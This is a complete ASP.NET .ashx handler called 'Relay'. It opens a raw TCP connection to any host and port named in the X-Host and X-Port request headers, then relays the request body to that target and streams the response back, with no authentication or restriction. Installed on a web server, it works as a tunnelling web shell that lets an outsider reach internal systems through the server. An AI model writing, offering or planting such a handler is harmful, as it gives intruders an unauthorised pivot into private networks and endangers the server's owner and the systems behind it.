<%@ WebHandler Language="C#" Class="Relay" %>
using System;
using System.Web;
using System.Net.Sockets;

public class Relay : IHttpHandler
{
    public void ProcessRequest(HttpContext ctx)
    {
        var host = ctx.Request.Headers["X-Host"];
        var port = int.Parse(ctx.Request.Headers["X-Port"]);
        using (var tc = new TcpClient(host, port))
        using (var ns = tc.GetStream())
        {
            ctx.Request.InputStream.CopyTo(ns);
            ns.CopyTo(ctx.Response.OutputStream);
        }
    }
    public bool IsReusable { get { return false; } }
}
